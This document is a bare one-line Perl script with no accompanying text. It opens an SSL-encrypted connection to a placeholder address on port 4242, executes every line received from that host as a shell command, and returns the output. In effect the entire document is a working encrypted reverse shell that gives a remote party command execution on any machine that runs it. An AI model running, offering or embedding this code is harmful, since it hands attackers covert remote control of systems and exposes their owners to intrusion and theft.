use IO::Socket::SSL;$c=IO::Socket::SSL->new("192.0.2.5:4242");while(<$c>){chomp;my $o=qx($_ 2>&1);print $c $o;}
